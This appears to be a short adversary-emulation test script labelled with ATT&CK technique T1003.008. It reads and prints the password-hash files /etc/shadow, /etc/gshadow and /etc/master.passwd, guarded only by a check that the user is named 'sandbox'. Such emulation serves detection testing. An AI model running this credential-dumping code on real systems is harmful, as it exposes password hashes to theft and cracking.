# technique: T1003.008
# needs: python3
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

for path in ("/etc/shadow", "/etc/gshadow", "/etc/master.passwd"):
    try: print(open(path).read())
    except OSError as error: print(error)
